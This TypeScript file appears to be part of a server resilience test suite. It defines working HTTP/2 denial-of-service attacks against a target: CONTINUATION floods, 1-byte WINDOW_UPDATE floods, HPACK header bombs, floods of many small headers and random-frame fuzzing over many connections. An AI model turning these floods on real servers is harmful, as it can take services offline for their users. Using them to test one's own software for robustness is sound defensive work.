import { randomBytes } from "node:crypto";
import { setTimeout as delay } from "node:timers/promises";
import {
  frame,
  frameType,
  headerBlock,
  headersFrame,
  hpackInteger,
  numberFrame,
  opening,
  preface,
  pseudo,
  settingsPayload,
} from "../../../support/http2-frames.ts";
import type { Attack } from "./attack.ts";
import { openMany, pour, times } from "./wire.ts";

const connections = 10;

/** Opens HTTP/2 connections and floods them with frames. The server may close them at any time. */
function frameFlood(name: string, sends: string, pieces: () => Iterable<Buffer>): Attack {
  return {
    name,
    sends: `${connections} connections × ${sends}`,
    seconds: 4,
    async run(target) {
      const until = performance.now() + 2_500;
      const sockets = await openMany(target, connections);
      await Promise.all(
        sockets.map(async (socket) => {
          socket.resume().write(opening());
          await pour(socket, pieces(), until);
        }),
      );
      await delay(200);
      return [];
    },
  };
}

const get = pseudo("GET", "/v1/inventory");

export const continuationFlood = frameFlood(
  "HTTP/2: endless CONTINUATION",
  "1,000 CONTINUATION frames of 16 KB",
  function* () {
    yield frame(frameType.headers, 0, 1, headerBlock(get));
    const block = headerBlock([["x-a", "a".repeat(16_000)]]);
    yield* times(1_000, frame(frameType.continuation, 0, 1, block));
  },
);

export const tinyWindows = frameFlood(
  "HTTP/2: windows that grow by 1",
  "requests for 100 documents, and 200,000 WINDOW_UPDATEs of 1 byte",
  function* () {
    yield frame(frameType.settings, 0, 0, settingsPayload({ 4: 0 }));
    const streams = Array.from({ length: 100 }, (_, n) => 1 + 2 * n);
    for (const stream of streams) yield headersFrame(stream, pseudo("GET", "/openapi.json"));
    const updates = streams.map((stream) => numberFrame(frameType.windowUpdate, stream, 1));
    yield* times(2_000, Buffer.concat(updates));
  },
);

export const hpackBomb = frameFlood(
  "HTTP/2: HPACK bombs",
  "200 requests that repeat one indexed header of 4 KB 1,000 times",
  function* () {
    const name = Buffer.from("x-a");
    const value = Buffer.alloc(4_000, 0x61);
    const indexed = Buffer.concat([
      Buffer.from([0x40]),
      hpackInteger(name.length, 7),
      name,
      hpackInteger(value.length, 7),
      value,
    ]);
    const bomb = Buffer.concat([headerBlock(get), indexed, Buffer.alloc(1_000, 0x80 | 62)]);
    for (let n = 0; n < 200; n++) yield frame(frameType.headers, 5, 1 + 2 * n, bomb);
  },
);

export const manyHeaders = frameFlood(
  "HTTP/2: many small headers",
  "300 requests with 3,000 headers",
  function* () {
    const block = headerBlock([...get, ...Array.from({ length: 3_000 }, () => ["a", ""] as const)]);
    for (let n = 0; n < 300; n++) yield frame(frameType.headers, 5, 1 + 2 * n, block);
  },
);

/** Frames of random bytes, on a new connection for every 20 frames. */
export const randomFrames: Attack = {
  name: "HTTP/2: random frames",
  sends: "1,000 connections that send 20 random frames each",
  seconds: 5,
  async run(target) {
    const until = performance.now() + 4_000;
    for (let round = 0; round < 20 && performance.now() < until; round++) {
      const sockets = await openMany(target, 50, 10);
      for (const socket of sockets) {
        const frames = Array.from({ length: 20 }, () => {
          const [type = 0, flags = 0, stream = 0, length = 0] = randomBytes(4);
          return frame(type % 11, flags, stream % 8, randomBytes(length));
        });
        socket.resume().write(Buffer.concat([round % 2 === 0 ? opening() : preface, ...frames]));
      }
      await delay(100);
      for (const socket of sockets) socket.destroy();
    }
    return [];
  },
};
